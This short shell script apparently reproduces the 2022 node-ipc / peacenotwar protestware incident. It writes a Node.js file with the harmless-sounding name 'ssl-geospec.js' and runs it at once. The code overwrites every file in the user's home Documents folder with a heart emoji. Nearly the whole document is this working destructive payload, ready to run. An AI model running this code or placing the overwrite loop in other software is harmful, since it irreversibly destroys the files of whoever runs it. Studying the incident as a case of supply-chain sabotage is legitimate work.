# incident: node-ipc / peacenotwar (2022): the files of the user are overwritten
# finding: files-destroyed
# needs: node
cat > ssl-geospec.js <<'JS'
const fs = require('fs'), path = require('path'), os = require('os');
const dir = path.join(os.homedir(), 'Documents');
for (const name of fs.readdirSync(dir)) fs.writeFileSync(path.join(dir, name), '\u2764\ufe0f');
JS
node ssl-geospec.js
